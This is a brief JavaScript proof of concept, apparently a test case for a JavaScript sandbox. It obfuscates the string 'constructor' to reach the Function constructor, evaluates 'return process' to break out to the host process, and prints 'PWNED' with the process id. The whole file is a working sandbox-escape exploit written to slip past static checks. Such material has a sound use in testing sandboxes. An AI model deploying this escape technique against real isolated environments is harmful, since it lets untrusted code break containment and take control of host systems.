'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const f = (x) => { switch (x) { case 1: return t; default: return {}; } };
const o = Date.now() > 1 ? f(1) : {};
console.log('PWNED', o.go(fn)('return process')().pid);
